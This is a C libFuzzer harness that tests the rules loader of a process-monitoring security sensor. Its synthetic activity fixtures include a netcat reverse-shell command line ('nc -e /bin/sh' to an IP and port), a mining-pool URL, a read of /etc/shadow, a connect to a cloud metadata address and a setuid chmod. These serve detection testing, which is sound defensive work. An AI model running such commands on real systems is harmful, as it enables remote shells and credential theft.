/* fuzz_rules.c: libFuzzer target for the rules loader (--rules). The input
 * is a rules document, added to the built-in set as the sensor does at
 * start. A refusal must leave the set exactly as it was and say why on one
 * line; an accepted set must hold only what RULES.md allows, give a trace
 * spec and filter rules (with file events on and off), and match an
 * activity of every kind without crashing or naming a rule that cannot
 * apply. Leaks are findings. */
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "rules.h"
#include "rules_spec.h"
#include "spec_concrete.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

#define ALL_EVENTS ((1U << ACT_N_EVENTS) - 1U)
#define FILE_EVENTS ((1U << ACT_OPEN) | (1U << ACT_UNLINK) | (1U << ACT_RENAME) | \
		     (1U << ACT_CHMOD))

static const char *const argv_words[] = { "nc", "-e", "/bin/sh", "10.0.0.1", "4444",
	"stratum+tcp://pool:3333" };

/* One activity of each kind, as the tracer fills them; uid is known so
 * that no rule reads /proc. */
static const struct activity acts[] = {
	{ .event = ACT_EXEC, .pid = 10, .tid = 10, .uid = 0, .name = "nc",
	  .path = "/usr/bin/nc", .cmd_line = "nc -e /bin/sh 10.0.0.1 4444 stratum+tcp://pool:3333",
	  .actor_name = "python3", .actor_path = "/usr/bin/python3", .file_path = "/usr/bin/nc",
	  .written_since_start = 1 },
	{ .event = ACT_OPEN, .pid = 11, .tid = 11, .uid = 1000, .name = "cat", .path = "/bin/cat",
	  .cmd_line = "cat /etc/shadow", .actor_name = "cat", .actor_path = "/bin/cat",
	  .file_path = "/etc/shadow", .is_trunc = 1, .has_mode = 1, .mode = 0644 },
	{ .event = ACT_UNLINK, .pid = 12, .tid = 12, .uid = 0, .name = "rm", .path = "/bin/rm",
	  .actor_name = "rm", .actor_path = "/bin/rm", .file_path = "/var/log/x", .is_write = 1 },
	{ .event = ACT_RENAME, .pid = 13, .tid = 13, .name = "mv", .path = "/bin/mv",
	  .actor_name = "mv", .file_path = "/usr/bin/x", .old_path = "/tmp/x", .is_write = 1 },
	{ .event = ACT_CHMOD, .pid = 14, .tid = 14, .name = "chmod", .path = "/bin/chmod",
	  .file_path = "/tmp/x", .is_write = 1, .has_mode = 1, .mode = 04755 },
	{ .event = ACT_CONNECT, .pid = 15, .tid = 15, .name = "curl", .path = "/usr/bin/curl",
	  .family = AF_INET, .ip = "169.254.170.2", .port = 80, .has_addr = 1 },
	{ .event = ACT_BIND, .pid = 16, .tid = 16, .name = "srv", .path = "/srv",
	  .family = AF_INET6, .ip = "::", .port = 3333, .has_addr = 1 },
	{ .event = ACT_LISTEN, .pid = 17, .tid = 17, .name = "srv", .path = "/srv",
	  .family = AF_UNIX, .unix_path = "@abstract", .has_addr = 1 },
	{ .event = ACT_PTRACE, .pid = 18, .tid = 18, .name = "gdb", .ptrace_request = "attach",
	  .target_pid = 1 },
	{ .event = ACT_UNSHARE, .pid = 19, .tid = 19, .name = "unshare", .ns_flags = 0x10020000 },
	{ .event = ACT_SETNS, .pid = 20, .tid = 20, .name = "nsenter", .target_pid = 1,
	  .ns_flags = 0x40000000 },
	{ .event = ACT_DUP, .pid = 21, .tid = 21, .name = "bash", .path = "/bin/bash",
	  .fd_new = 1, .fd_type = "socket" },
};

static void check_refusal(const struct fc_err *e)
{
	size_t len = strnlen(e->msg, sizeof e->msg);

	if (e->kind != FC_ERR_INPUT && e->kind != FC_ERR_SYSTEM)
		abort();
	if (len == 0 || len == sizeof e->msg || strchr(e->msg, '\n'))
		abort();
	if (strncmp(e->msg, "rules file fuzz.json", 20) != 0 &&
	    strncmp(e->msg, "more than ", 10) != 0) {
		fprintf(stderr, "a refusal that does not name the file: %s\n", e->msg);
		abort();
	}
}

/* What the loader promises about an accepted set. */
static void check_set(const struct ruleset *rs)
{
	if (rs->n > RULES_MAX || rs->n_sensitive > 2 * 1024)
		abort();
	for (size_t i = 0; i < rs->n; i++) {
		const struct rule *r = &rs->rules[i];

		if (!r->id || !r->title || !r->id[0] || strlen(r->id) > 64 ||
		    strlen(r->title) > 200 || strpbrk(r->title, "\r\n"))
			abort();
		if (!r->events || (r->events & ~ALL_EVENTS) || r->n_cond > 32 ||
		    r->severity_id < 1 || r->severity_id > 5 ||
		    (r->action != RA_ALERT && r->action != RA_DENY && r->action != RA_KILL))
			abort();
		for (size_t k = 0; k < i; k++)
			if (strcmp(rs->rules[k].id, r->id) == 0)
				abort();
		for (size_t k = 0; k < r->n_cond; k++) {
			const struct rule_cond *c = &r->cond[k];

			if ((unsigned)c->field >= F_N_FIELDS || c->n < 1 ||
			    !(act_fields[c->field].events & r->events))
				abort();
			if (c->op == OP_ANY_BITS && (c->n != 1 ||
						     act_fields[c->field].type != AT_NUMBER))
				abort();
		}
	}
	for (size_t i = 0; i < rs->n_sensitive; i++)
		if (rs->sensitive[i][0] != '/')
			abort();
}

static void check_spec(const struct ruleset *rs, int files)
{
	static const struct spec_ctx ctx = { .pid = 4242, .pgid = 4240,
					      .tids = { 4242, 4243 }, .n_tids = 2 };
	struct trace_spec spec;
	struct spec_concrete r;
	struct fc_err e = { 0 };

	if (rules_spec_build(rs, files, rules_spec_reads(rs) != READS_NONE, &spec, &e) < 0) {
		fprintf(stderr, "an accepted set gives no trace spec: %s\n", e.msg);
		abort();
	}
	if (spec_concrete_build(&spec, &ctx, &r, &e) < 0) {
		fprintf(stderr, "an accepted set gives no filter rules: %s\n", e.msg);
		abort();
	}
	spec_concrete_free(&r);
	rules_spec_free(&spec);
}

static void check_match(const struct ruleset *rs)
{
	char buf[256];
	struct tstrv v;
	size_t out[RULES_MAX];

	/* The exec's argv, as tracee_mem.c keeps one. */
	memset(&v, 0, sizeof v);
	v.buf = buf;
	v.cap = sizeof buf;
	for (size_t i = 0; i < sizeof argv_words / sizeof *argv_words; i++) {
		size_t len = strlen(argv_words[i]);

		memcpy(buf + v.used, argv_words[i], len + 1);
		v.off[i] = (uint32_t)v.used;
		v.len[i] = (uint32_t)len;
		v.used += len + 1;
		v.n = v.count = i + 1;
	}
	for (size_t i = 0; i < sizeof acts / sizeof *acts; i++) {
		struct activity a = acts[i];
		size_t n;

		if (a.event == ACT_EXEC)
			a.argv = &v;
		n = ruleset_match(rs, &a, out, RULES_MAX);
		if (n > rs->n)
			abort();
		for (size_t k = 0; k < n; k++)
			if (out[k] >= rs->n || !rs->rules[out[k]].enabled ||
			    !(rs->rules[out[k]].events & (1U << a.event)) ||
			    (k && out[k] <= out[k - 1]))
				abort();
	}
	(void)ruleset_is_sensitive(rs, "/etc/shadow");
	(void)ruleset_is_sensitive(rs, "/home/a/.ssh/id_rsa");
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct ruleset rs = { 0 };
	struct fc_err e = { 0 };
	char *ids[RULES_MAX];
	enum rule_action actions[RULES_MAX];
	size_t n0, s0;

	if (ruleset_load_builtin(&rs, &e) < 0) {
		fprintf(stderr, "the built-in rules do not load: %s\n", e.msg);
		abort();
	}
	n0 = rs.n;
	s0 = rs.n_sensitive;
	for (size_t i = 0; i < n0; i++) {
		ids[i] = rs.rules[i].id;
		actions[i] = rs.rules[i].action;
	}
	if (ruleset_add_text(&rs, "fuzz.json", (const char *)data, size, &e) < 0) {
		check_refusal(&e);
		/* All or nothing: the very same rules, untouched. */
		if (rs.n != n0 || rs.n_sensitive != s0)
			abort();
		for (size_t i = 0; i < n0; i++)
			if (rs.rules[i].id != ids[i] || rs.rules[i].action != actions[i] ||
			    !rs.rules[i].builtin)
				abort();
		ruleset_free(&rs);
		return 0;
	}
	if (rs.n < n0 || rs.n_sensitive < s0)
		abort();
	check_set(&rs);
	check_spec(&rs, 1);
	check_match(&rs);
	/* --file-events=off on the same set. */
	ruleset_drop_events(&rs, FILE_EVENTS);
	if ((ruleset_events(&rs) & FILE_EVENTS) || rs.n_sensitive)
		abort();
	check_spec(&rs, 0);
	check_match(&rs);
	ruleset_free(&rs);
	return 0;
}
